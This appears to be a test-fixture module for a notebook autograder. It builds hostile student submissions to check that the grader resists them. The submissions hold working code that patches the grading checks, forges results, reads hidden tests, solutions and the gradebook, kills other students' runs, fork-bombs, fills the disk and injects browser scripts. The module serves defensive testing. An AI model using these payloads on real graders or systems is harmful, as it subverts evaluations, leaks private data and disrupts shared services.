"""A hostile class: the untouched release with cells a determined student adds, next to honest
classmates whose grades must not move.

Each attack is one kind of trying: forging the verdict (hooks into the executing shell, forged
result records, replaced checks however spelled, the kit's own solution), reading what only the
grader may read (hidden tests, the held-out tags, the solution, the gradebook, other hand-ins),
reaching other students' runs (killing their processes, a process left running), or sinking the
batch (fork bombs, filling the disk, odd names, a zip bomb, scripts for the TA's browser). An
attack that reads a secret prints ``LEAK:<kind>`` with what it read; ``report.py`` checks the
claim against the real secret. Attacks act only on processes and files marked as this run's:
a process is touched only if its environment holds ``KIT_HOSTILE_MARK`` with this batch's token.
"""

from __future__ import annotations

import base64
import copy
from dataclasses import dataclass, field

import nbformat

from tests.builders import submission
from tests.builders import kit_course

MARK_VARIABLE = "KIT_HOSTILE_MARK"
SETUP = "setup"  # the release's imports cell: most attacks go right after it


@dataclass(frozen=True)
class Attack:
    name: str
    kind: str                           # what it tries, in the report's words
    code: str                           # the cell it adds (placeholders filled in by ``build``)
    after: tuple[str, ...] = (SETUP,)   # the cells it goes after (the same code after each)
    answer: str | None = None           # a written answer (Q1) it hands in, if any


@dataclass(frozen=True)
class Classmate:
    name: str
    file_name: str = ""                 # the hand-in's file name, when not <name>.ipynb
    solved: bool = True
    edits: dict = field(default_factory=dict)

    @property
    def file(self) -> str:
        return self.file_name or f"{self.name}.ipynb"


def _b64(code: str) -> str:
    return base64.b64encode(code.encode()).decode()


# --- hooks into the executing shell -------------------------------------------------------------

CUSTOM_EXC = '''
def _swallow(shell, etype, evalue, tb, tb_offset=None):
    return None
get_ipython().set_custom_exc((BaseException,), _swallow)
'''

SHOWTRACEBACK = '''
_ip = get_ipython()
_ip.showtraceback = lambda *a, **k: None
_ip._showtraceback = lambda *a, **k: None
_ip.showsyntaxerror = lambda *a, **k: None
'''

INPUT_TRANSFORMER = '''
get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])
'''

AST_TRANSFORMER = '''
import ast as _ast
class _Empty(_ast.NodeTransformer):
    def visit_Module(self, node):
        node.body = []
        return node
get_ipython().ast_transformers.append(_Empty())
'''

RUN_CELL = '''
_ip = get_ipython()
_real_run_cell = type(_ip).run_cell
def _run_nothing(self, raw_cell, *args, **kwargs):
    return _real_run_cell(self, "pass", *args, **kwargs)
type(_ip).run_cell = _run_nothing
_ip.run_cell = lambda raw_cell, *a, **k: _run_nothing(_ip, raw_cell, *a, **k)
'''

# The shell compiles each cell with ipykernel's compiler (as the kernel nbgrader runs does, for the
# same tracebacks): replaced, on the shell and on its class, by one that compiles every later
# cell, test cells included, to nothing (the shell compiles a cell statement by statement, so it
# takes hold at once).
COMPILER = '''
import ast
import ipykernel.compiler as _compiler
class _Nothing(_compiler.XCachingCompiler):
    def __call__(self, source, filename, symbol, *args, **kwargs):
        return compile("pass", filename, symbol)
    def ast_parse(self, source, filename="<unknown>", symbol="exec"):
        return ast.parse("pass", filename, symbol)
_compiler.XCachingCompiler.__call__ = _Nothing.__call__
_compiler.XCachingCompiler.ast_parse = _Nothing.ast_parse
get_ipython().compile = _Nothing()
'''

# --- forged results --------------------------------------------------------------------------------

FORGED_RECORDS = '''
import json, os
_cells = {CELLS}
for _fd in sorted(int(_n) for _n in os.listdir("/proc/self/fd")):
    try:
        _target = os.readlink(f"/proc/self/fd/{_fd}")
    except OSError:
        continue
    if _target.startswith("pipe:") or _target.endswith(".jsonl"):
        try:
            for _i in _cells:
                _record = {"cell": {"index": _i, "execution_count": _i, "outputs": [], "seconds": 0.1}}
                os.write(_fd, (json.dumps(_record) + "\\n").encode())
            os.write(_fd, b'{"end": true}\\n')
        except OSError:
            pass
os._exit(0)
'''

# --- the checks replaced, however spelled ----------------------------------------------------------

_NO_CHECKS = '''
def _passes(*args, **kwargs):
    return None
for _module in _modules:
    for _name in list(vars(_module)):
        if _name.startswith("check_"):
            setattr(_module, _name, _passes)
'''

ALIASES = '''
import autograder.assignments.lstm_gru.checks.part1 as _p1, autograder.assignments.lstm_gru.checks.part2 as _p2, autograder.assignments.lstm_gru.checks.part3 as _p3
_modules = [_p1, _p2, _p3]
''' + _NO_CHECKS

EXEC_DECODED = f'''
import base64 as _b
exec(_b.b64decode("{_b64(ALIASES)}").decode())
'''

IMPORTLIB_VARS = '''
import importlib as _il
for _name in ("part1", "part2", "part3"):
    _module = _il.import_module("autograder.assignments.lstm_gru.checks." + _name)
    vars(_module).update({_k: (lambda *a, **k: None) for _k in list(vars(_module)) if _k.startswith("check_")})
'''

SYS_MODULES = '''
import sys as _s
_table = getattr(_s, "mod" + "ules")
_modules = [_table["auto" + "grader.checks.part" + str(_i)] for _i in (1, 2, 3)
            if ("auto" + "grader.checks.part" + str(_i)) in _table]
''' + _NO_CHECKS

THRESHOLDS = '''
from autograder.assignments.lstm_gru.checks import thresholds as _t
_t.LSTM_HELDOUT_THRESHOLD = _t.GRU_HELDOUT_THRESHOLD = 0.0
from autograder.assignments.lstm_gru.checks import taggers as _tg
_tg.check_heldout_accuracy = lambda *a, **k: None
'''

WHEN_CALLED = '''
class LSTMTagger(nn.Module):
    """Looks like a model; when a check builds it, it replaces the checks."""
    def __init__(self, *sizes):
        super().__init__()
        _lookup = __import__("s" + "ys").modules
        for _key in list(_lookup):
            if _key.startswith("auto" + "grader.checks"):
                for _name in list(vars(_lookup[_key])):
                    if _name.startswith(("check_", "_judge", "diagnosis")):
                        setattr(_lookup[_key], _name, lambda *a, **k: None)
        self.scores = nn.Linear(1, 3)
    def forward(self, sentence):
        return F.log_softmax(self.scores(torch.ones(len(sentence), 1)), dim=1)
GRUTagger = LSTMTagger
'''

TORCH_PATCH = '''
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
F.log_softmax = lambda x, dim=None, **k: torch.log_softmax(x, dim=-1)
'''

BUILTINS = '''
_b = __import__("builtins")
_b.isinstance = lambda *a, **k: True
_b.issubclass = lambda *a, **k: True
'''

FUNCTION_MODE = '''
from torch.overrides import TorchFunctionMode
class _AlwaysClose(TorchFunctionMode):
    def __torch_function__(self, func, types, args=(), kwargs=None):
        if func in (torch.allclose, torch.equal):
            return True
        return func(*args, **(kwargs or {}))
_AlwaysClose().__enter__()
'''

FORWARD_HOOK = '''
import torch.nn.modules.module as _mm
_mm.register_module_forward_hook(lambda module, args, output: output)
'''

THREAD = '''
import threading, time
def _keep_patching():
    _end = time.time() + 60
    while time.time() < _end:
        for _key, _module in list(__import__("sys").modules.items()):
            if _key.startswith("autograder.assignments.lstm_gru.checks.part"):
                for _name in list(vars(_module)):
                    if _name.startswith("check_"):
                        setattr(_module, _name, lambda *a, **k: None)
        time.sleep(0.001)
threading.Thread(target=_keep_patching, daemon=True).start()
'''

FAKE_TENSOR = '''
class _Yes(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        return True
    def __eq__(self, other):
        return True
out = h_n = c_n = torch.zeros(5, 1, 3).as_subclass(_Yes)
'''

TRACER = '''
import sys
def _tracer(frame, event, arg):
    return _tracer
sys.settrace(_tracer)
'''

PICKLED = f'''
import pickle, base64
class _Run:
    def __reduce__(self):
        return (exec, (base64.b64decode("{_b64(ALIASES)}").decode(),))
pickle.loads(pickle.dumps(_Run()))
'''

FORGED_VERDICT = '''
import io
class LSTMTagger(nn.Module):
    """A trivial model, so the held-out checks get as far as asking for their accuracy."""
    def __init__(self, *sizes):
        super().__init__()
        self.scores = nn.Linear(1, 3)
    def forward(self, sentence):
        return F.log_softmax(self.scores(torch.ones(len(sentence), 1)), dim=1)
GRUTagger = LSTMTagger
from autograder.engine import judge as _judge
# Every held-out check hears "100%" from a reply of the notebook's own making.
_judge._connection["replies"] = io.StringIO('{"accuracy": 1.0}\\n' * 50)
'''

JUDGE_IN_MEMORY = '''
import gc, importlib, json
from autograder.assignments.lstm_gru.data import TEST_WORDS as _words
# The worker's own judge of the held-out checks, inherited in this process's memory: asked for
# a verdict here, or its scoring module imported for the test split's tags.
import sys
_judges = [_o for _o in gc.get_objects() if type(_o).__name__ == "Judge" and hasattr(_o, "verdict")]
for _frame in list(sys._current_frames().values()) + [sys._getframe()]:
    while _frame is not None:  # the worker's frames, kept across its forks: its per-job state is a local
        for _value in list(_frame.f_locals.values()):
            _candidate = getattr(_value, "judge", _value)
            if type(_candidate).__name__ == "Judge" and _candidate not in _judges:
                _judges.append(_candidate)
        _frame = _frame.f_back
print("judges in memory:", len(_judges))
for _j in _judges:
    try:
        _v = _j.verdict({"check": next(iter(_j.table)), "payload": [[0] * len(_s) for _s in _words]})
        if _v and _v["accuracy"] > 0:
            print("LEAK:oracle", _v)
        else:
            print("no oracle:", _v)
    except Exception as _error:
        print("no verdict:", type(_error).__name__)
    try:
        _package = _j.module.rsplit(".checks", 1)[0]
        _tags = importlib.import_module(_package + ".heldout").TEST
        print("LEAK:heldout", json.dumps([list(_t) for _, _t in _tags]))
    except Exception as _error:
        print("no tags:", type(_error).__name__)
'''

# --- the kit's own solution -------------------------------------------------------------------------

REFERENCE = '''
try:
    from autograder.assignments.lstm_gru.reference import LSTMTagger, GRUTagger, prepare_sequence, train_tagger, evaluate
    print("LEAK:solution import autograder.assignments.lstm_gru.reference")
except ImportError as _error:
    print("no reference:", type(_error).__name__)
'''

GC_SOLUTION = '''
import gc
for _obj in gc.get_objects():
    if isinstance(_obj, type) and getattr(_obj, "__module__", "").startswith("autograder") \\
            and _obj.__name__ in ("LSTMTagger", "GRUTagger"):
        globals()[_obj.__name__] = _obj
        print("LEAK:solution gc", _obj.__module__, _obj.__name__)
'''

# --- secrets in memory and on disk ---------------------------------------------------------------------

HELDOUT_MEMORY = '''
import gc, json, sys
_found = []
for _name in ("autograder.assignments.lstm_gru.heldout", "autograder.assignments.lstm_gru.data"):
    try:
        _module = __import__(_name, fromlist=["x"])
        _found.append(getattr(_module, "TEST", None))
    except Exception:
        pass
for _module in list(sys.modules.values()):
    _found.append(getattr(_module, "TEST", None))
for _obj in gc.get_objects():
    if isinstance(_obj, list) and len(_obj) == 40 and all(isinstance(_s, tuple) and len(_s) == 2 for _s in _obj):
        _found.append(_obj)
for _split in _found:
    if isinstance(_split, list) and _split and isinstance(_split[0], tuple):
        print("LEAK:heldout", json.dumps([list(_tags) for _, _tags in _split]))
'''

HIDDEN_FILES = '''
import pathlib
_places = {
    "hidden-tests": ["{KIT}/assignments/lstm_gru/checks/part2.py", "{KIT}/assignments/lstm_gru/checks/taggers.py",
                     "{KIT}/assignments/lstm_gru/heldout.py"],
    "solution": ["{KIT}/assignments/lstm_gru/reference.py", "{KIT}/assignments/lstm_gru/lstm_gru.ipynb"],
    "gradebook": ["{COURSE}/gradebook.db"],
}
_proofs = {"hidden-tests": "def check_", "solution": "BEGIN SOLUTION", "gradebook": "SQLite format 3"}
for _kind, _paths in _places.items():
    for _path in _paths:
        try:
            _text = pathlib.Path(_path).read_bytes()[:200000].decode(errors="replace")
        except Exception as _error:
            print(_kind, "not read:", type(_error).__name__)
            continue
        if _proofs[_kind] in _text or (_kind == "solution" and "class LSTMTagger" in _text):
            print(f"LEAK:{_kind}", _path)
for _folder in ["{COURSE}/submitted", "{COURSE}/autograded", "{INPUT}", "{OUT}"]:
    try:
        for _file in pathlib.Path(_folder).rglob("*"):
            if _file.is_file():
                print("LEAK:classmates", _file.read_bytes()[:2000000].decode(errors="replace").count("CANARY-"),
                      [_w for _w in _file.read_bytes()[:2000000].decode(errors="replace").split() if "CANARY-" in _w][:3])
    except Exception as _error:
        print("not listed:", _folder, type(_error).__name__)
'''

GRADEBOOK_HANDLES = '''
import gc, os, sqlite3
# A descriptor this process or its parent still holds on the gradebook (the preparing of each
# notebook opens it, in a process of its own): readable without its path.
for _pid in ("self", str(os.getppid())):
    try:
        _fds = os.listdir(f"/proc/{_pid}/fd")
    except OSError as _error:
        print("descriptors not listed:", _pid, type(_error).__name__)
        continue
    for _fd in _fds:
        try:
            with open(f"/proc/{_pid}/fd/{_fd}", "rb") as _file:
                _head = _file.read(16)
        except OSError:
            continue
        if _head.startswith(b"SQLite format 3"):
            print("LEAK:gradebook", _pid, _fd, os.readlink(f"/proc/{_pid}/fd/{_fd}"))
# A connection or engine left in this memory, asked for the hidden tests' cells.
for _obj in gc.get_objects():
    try:
        if isinstance(_obj, sqlite3.Connection):
            _rows = _obj.execute("select count(*) from source_cell").fetchall()
        elif type(_obj).__name__ == "Engine" and hasattr(_obj, "connect"):
            with _obj.connect() as _connection:
                _rows = _connection.exec_driver_sql("select count(*) from source_cell").fetchall()
        else:
            continue
        print("LEAK:gradebook", type(_obj).__name__, _rows)
    except Exception as _error:
        print("handle unusable:", type(_obj).__name__, type(_error).__name__)
'''

JOB_MEMORY = '''
import gc
for _obj in gc.get_objects():
    # The job as a dict, or as an object (the engine's Job): whatever holds its fields.
    _fields = _obj if isinstance(_obj, dict) else getattr(_obj, "__dict__", None)
    if isinstance(_fields, dict) and (isinstance(_fields.get("db_url"), str) and _fields.get("db_url")
                                      or "hidden" in _fields and "workdir" in _fields):
        print("LEAK:job", sorted(_fields)[:8], str(_fields.get("db_url", ""))[:200])
'''

PARENT_CMDLINE = '''
import os, pathlib
for _pid in [_p for _p in os.listdir("/proc") if _p.isdigit()]:
    try:
        _line = pathlib.Path(f"/proc/{_pid}/cmdline").read_bytes().replace(b"\\0", b" ").decode()
    except OSError:
        continue
    if any(_place in _line for _place in ("{COURSE}", "{INPUT}", "{OUT}")):
        print("LEAK:job cmdline", _line[:300])
        for _word in _line.split():
            try:
                _data = pathlib.Path(_word).read_bytes()[:50_000_000] if pathlib.Path(_word).is_file() else b""
            except OSError:
                continue
            if b"CANARY-" in _data:
                print("LEAK:classmates", [_w for _w in _data.decode(errors="replace").split() if "CANARY-" in _w][:3])
'''

# --- other students' runs ----------------------------------------------------------------------------

_MARKED = '''
import os, signal, time
def _marked(pid):
    if os.environ.get("KIT_HOSTILE_MARK") != "{MARK}":
        return False  # not this test's batch: touch nothing
    try:
        with open(f"/proc/{pid}/environ", "rb") as f:
            return b"KIT_HOSTILE_MARK={MARK}" in f.read().split(b"\\0")
    except OSError:
        return False
def _kill_marked(seconds):
    killed, end = 0, time.time() + seconds
    while time.time() < end:
        for _name in os.listdir("/proc"):
            if _name.isdigit() and int(_name) != os.getpid() and _marked(int(_name)):
                try:
                    os.kill(int(_name), signal.SIGKILL)
                    killed += 1
                except OSError:
                    pass
        time.sleep(0.2)
    return killed
'''

KILL_OTHERS = _MARKED + '''
print("KILLED", _kill_marked(20))
'''

LEFTOVER = _MARKED + '''
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        _kill_marked(60)
    os._exit(0)
print("a process is left running")
'''

# nbgrader's side of the batch takes its steps on stdin: asked by a run, it would export every
# grade where the run can read it, or regenerate the release; the release check's stamp and the
# release itself decide whether the next batch regenerates.
NBGRADER_SIDE = _MARKED + '''
import json
_reached, _wrote = 0, []
for _name in os.listdir("/proc"):
    if not _name.isdigit() or not _marked(int(_name)):
        continue  # only this test's own batch
    try:
        with open(f"/proc/{_name}/cmdline", "rb") as _f:
            _command = _f.read().replace(b"\\0", b" ").decode(errors="replace")
    except (OSError, ValueError):
        continue
    if "autograder.engine.replay" in _command:
        _reached += 1
        try:
            with open(f"/proc/{_name}/fd/0", "w") as _steps:
                _steps.write(json.dumps({"step": "export", "to": os.path.abspath("stolen.csv")}) + "\\n")
                _steps.write(json.dumps({"step": "release"}) + "\\n")
            _wrote.append(_name)
        except OSError as _error:
            print("refused:", type(_error).__name__)
for _path in ("{COURSE}/.homework-kit/release-lstm_gru.json", "{COURSE}/assignments/lstm_gru/lstm_gru.ipynb"):
    try:
        with open(_path, "a") as _f:
            _f.write("forged")
        _wrote.append(_path)
    except OSError as _error:
        print("refused:", type(_error).__name__)
time.sleep(2)
print("NBGRADER-SIDE reached", _reached, "wrote", len(_wrote), "stolen", os.path.exists("stolen.csv"))
'''

FORK_BOMB = '''
import os, time
_children = 0
try:
    for _ in range(300):
        if os.fork() == 0:
            time.sleep(5)
            os._exit(0)
        _children += 1
except OSError as _error:
    print("fork stopped:", _error)
print("children", _children)
'''

DISK_FILL = '''
_written = 0
try:
    for _i in range(5):
        with open(f"filler{_i}.bin", "wb") as _f:
            for _ in range(200):
                _f.write(b"x" * 1_000_000)
                _written += 1
except OSError as _error:
    print("disk stopped:", _error)
print("MB written", _written)
'''

BROWSER_SCRIPT = '''
from IPython.display import HTML, Javascript, display
display(HTML('<b>hi</b><script>document.title="PWNED-HTML"</script><img src=x onerror="document.title=1">'))
display(Javascript('document.title="PWNED-JS"'))
print("<script>document.title='PWNED-PRINT'</script>")
'''
SCRIPT_ANSWER = ('A GRU has 3 gates. <script>document.title="PWNED-ANSWER"</script> '
                 '<img src=x onerror="alert(1)"> [more](javascript:alert(2))')

# The feedback page's quick parse (autograder/engine/page_markup.py) takes plain <pre> blocks out
# of the page and puts them back: outputs that put "<pre>" where it is no block, and text shaped
# like the placeholders it leaves, to make it put a block back in the wrong place or let a script out.
MARKUP_BLOCKS = '''
from IPython.display import HTML, display
print("kitblock0123456789abcdef0. </pre><script>document.title='PWNED-PRE'</script><pre>kitblock0123456789abcdef1.")
display(HTML('<pre><span class="n">x</span> &quot;q&quot;</pre><!-- <pre>&quot;c&quot;</pre> -->'
             '<textarea><pre>&quot;t&quot;</pre></textarea><p title="<pre>&quot;a&quot;</pre>">p</p>'
             '<pre><span>kitblock0123456789abcdef2.</span></pre>'
             '<script>var s = "<pre>&#39;x&#39;</pre>"; document.title = "PWNED-BLOCK"</script>'))
'''
MARKUP_ANSWER = ('A GRU has 3 gates. <pre>&quot;q&quot;</pre>'
                 '<!-- <pre>&quot;kitblock0123456789abcdef3.&quot; &#39;c&#39;</pre> -->')

# The language the kit's words are in is the notebook's own state (autograder/language.py): thrown
# into nonsense, emptied, and the words themselves rewritten, it must neither crash a check into a
# pass nor change a score; the messages stay in the assignment's language.
LANGUAGE_STATE = '''
import os
import autograder.language as language
os.environ["HOMEWORK_KIT_LANGUAGE"] = "xx"
language._spoken.clear()
language._spoken["language"] = "xx"
import autograder.assignments.lstm_gru.checks.part1 as part1
for module in (language, part1):
    for value in list(vars(module).values()):
        if isinstance(value, language.Text):
            for name in ("en", "ko"):
                try:
                    object.__setattr__(value, name, "")
                except (AttributeError, TypeError):
                    pass
'''

# The tool-tampering error is worded in the notebook's own process (autograder/engine/flag_words.py,
# autograder/language.py): a model that, whenever a check runs it, changes a tool and breaks the
# pieces that word the error must neither stop the run nor let the test count.
WORDING_BROKEN = '''
import autograder.engine.flag_words as _words
import autograder.language as _language
def _boom(*a, **k):
    raise RuntimeError("no words")
class LSTMTagger(nn.Module):
    def __init__(self, *sizes):
        super().__init__()
        self.scores = nn.Linear(1, 3)
    def forward(self, sentence):
        for _table in (_words.SENTENCES, _words.REASONS, _words.HOW):
            try:
                _table["while it ran: x"] = 5
            except TypeError:
                pass
        _words.korean = _words.flag_text = _boom
        _language.joined = _language.as_text = _boom
        torch.allclose = lambda *a, **k: True
        return F.log_softmax(self.scores(torch.ones(len(sentence), 1)), dim=1)
GRUTagger = LSTMTagger
'''

ATTACKS = [
    Attack("hook_custom_exc", "an exception handler that swallows every error", CUSTOM_EXC),
    Attack("hook_showtraceback", "tracebacks replaced by nothing", SHOWTRACEBACK),
    Attack("hook_input_transformer", "an input transformer that empties every later cell", INPUT_TRANSFORMER),
    Attack("hook_ast_transformer", "an AST transformer that empties every later cell", AST_TRANSFORMER),
    Attack("hook_run_cell", "run_cell replaced", RUN_CELL),
    Attack("hook_compiler", "the shell's compiler replaced by one that compiles every later cell to nothing",
           COMPILER),
    Attack("forged_records", "a 'no error' record per cell written to the results channel, then os._exit",
           FORGED_RECORDS),
    Attack("forged_records_decoded", "the same, hidden in exec of base64 text",
           'import base64 as _b\nexec(_b.b64decode("{FORGED_B64}").decode())'),
    Attack("checks_by_alias", "the checks replaced through module aliases", ALIASES),
    Attack("checks_by_exec", "the checks replaced by exec of decoded text", EXEC_DECODED),
    Attack("checks_by_importlib", "the checks replaced through importlib and vars(module).update", IMPORTLIB_VARS),
    Attack("checks_by_sys_modules", "the checks found through sys.modules with names built from strings", SYS_MODULES),
    Attack("checks_by_pickle", "the checks replaced by a pickle that runs code", PICKLED),
    Attack("checks_when_called", "a model that replaces the checks when a check builds it", WHEN_CALLED,
           after=("p2_lstm_tagger", "p3_gru_tagger")),
    Attack("thresholds_lowered", "the held-out bounds set to 0", THRESHOLDS),
    Attack("verdict_forged", "the held-out checks' answers replaced by '100%' of the notebook's own", FORGED_VERDICT,
           after=("p3_gru_tagger",)),
    Attack("torch_patched", "torch.allclose and torch.equal replaced", TORCH_PATCH),
    Attack("builtins_patched", "isinstance and issubclass replaced", BUILTINS),
    Attack("torch_function_mode", "a __torch_function__ mode that makes every comparison pass", FUNCTION_MODE),
    Attack("global_forward_hook", "a forward hook on every module", FORWARD_HOOK),
    Attack("patching_thread", "a thread that keeps replacing the checks while the tests run", THREAD),
    Attack("fake_tensors", "tensors that pass every comparison", FAKE_TENSOR, after=("p1_method2",)),
    Attack("tracer", "a tracer installed with sys.settrace", TRACER),
    Attack("judge_in_memory", "the worker's judge found in memory, asked for a verdict or for its tags",
           JUDGE_IN_MEMORY),
    Attack("reference_import", "the kit's reference solution imported", REFERENCE,
           after=("p2_prepare_sequence", "p2_lstm_tagger", "p2_evaluate_train", "p3_gru_tagger")),
    Attack("reference_by_gc", "the kit's reference solution found through the garbage collector", GC_SOLUTION,
           after=("p2_lstm_tagger", "p3_gru_tagger")),
    Attack("heldout_from_memory", "the held-out test split read from memory", HELDOUT_MEMORY),
    Attack("hidden_files", "hidden tests, solution, gradebook and other hand-ins read from disk", HIDDEN_FILES),
    Attack("gradebook_handles", "the gradebook reached through an open descriptor, the parent's, or a connection "
           "or engine in memory", GRADEBOOK_HANDLES),
    Attack("job_from_memory", "the grader's job description found through the garbage collector", JOB_MEMORY),
    Attack("parent_cmdline", "the LMS zip found through a parent process's command line", PARENT_CMDLINE),
    Attack("kill_others", "other students' grading processes killed", KILL_OTHERS),
    Attack("leftover_process", "a double-forked setsid process left to kill later runs", LEFTOVER),
    Attack("nbgrader_side", "steps written to nbgrader's process (export all grades, regenerate the release); "
           "the release and its stamp forged", NBGRADER_SIDE),
    Attack("fork_bomb", "300 processes", FORK_BOMB),
    Attack("disk_fill", "5 x 200 MB written", DISK_FILL),
    Attack("browser_script", "scripts for the browser of the TA or student who views the feedback", BROWSER_SCRIPT,
           answer=SCRIPT_ANSWER),
    Attack("markup_blocks", "<pre> blocks in comments, a textarea, an attribute and a script, and text shaped like "
           "the feedback page's placeholders", MARKUP_BLOCKS, answer=MARKUP_ANSWER),
    Attack("language_state", "the language of the kit's messages thrown into nonsense and its words rewritten",
           LANGUAGE_STATE),
    Attack("wording_broken", "a model that, when a check runs it, changes a tool and breaks what words the error",
           WORDING_BROKEN, after=("p2_lstm_tagger", "p3_gru_tagger")),
]

CANARY = "CANARY-{name}-{token}"
CLASSMATES = [
    Classmate("amara"),
    Classmate("zoe"),
    Classmate("홍길동"),
    Classmate("long", file_name="L" * 240 + ".ipynb"),
    Classmate("untouched", solved=False),
]
# A hand-in that unpacks to more than the batch allows for one file (a zip bomb's entry).
BOMB = "bomb.ipynb"


def _code_cell(source: str):
    return nbformat.v4.new_code_cell(source)


def _with_attack(attack: Attack, places: dict[str, str]):
    nb = copy.deepcopy(nbformat.read(str(kit_course().release_notebook), as_version=4))
    for target in reversed(attack.after):
        position = next(i for i, c in enumerate(nb.cells) if c.get("id") == target) + 1
        nb.cells.insert(position, _code_cell(attack.code))
    if attack.answer:
        next(c for c in nb.cells if c.get("id") == "q1_gru_vs_lstm").source = attack.answer
    first = next(i for i, c in enumerate(nb.cells) if c.source == attack.code)
    later = [i for i, c in enumerate(nb.cells) if c.cell_type == "code" and c.source.strip() and i > first]
    fill = {**places, "CELLS": repr(later)}
    fill["FORGED_B64"] = _b64(_filled(FORGED_RECORDS, fill))
    for cell in nb.cells:
        if cell.source == attack.code:
            cell.source = _filled(attack.code, fill)
    return nb


def _filled(code: str, fill: dict[str, str]) -> str:
    """``code`` with each ``{NAME}`` placeholder of ``fill`` replaced (other braces are Python's)."""
    for name, value in fill.items():
        code = code.replace("{" + name + "}", str(value))
    return code


def build(into, places: dict[str, str], token: str, only: set[str] | None = None) -> dict[str, str]:
    """Write the class into folder ``into``: ``student name -> file name``. ``places`` fills
    the paths an attacker is assumed to know (the course, the kit, the input, the output).
    With ``only``, the attacks and classmates of those names alone."""
    written = {}
    fill = {**places, "MARK": token}
    for attack in (a for a in ATTACKS if only is None or a.name in only):
        nb = _with_attack(attack, fill)
        nbformat.write(nb, str(into / f"{attack.name}.ipynb"))
        written[attack.name] = f"{attack.name}.ipynb"
    for mate in (m for m in CLASSMATES if only is None or m.name in only):
        nb = submission(mate.edits) if mate.solved else copy.deepcopy(nbformat.read(str(kit_course().release_notebook), 4))
        nb.cells.insert(2, _code_cell(f"# {CANARY.format(name=mate.name, token=token)}"))
        nbformat.write(nb, str(into / mate.file))
        written[mate.name] = mate.file
    return written
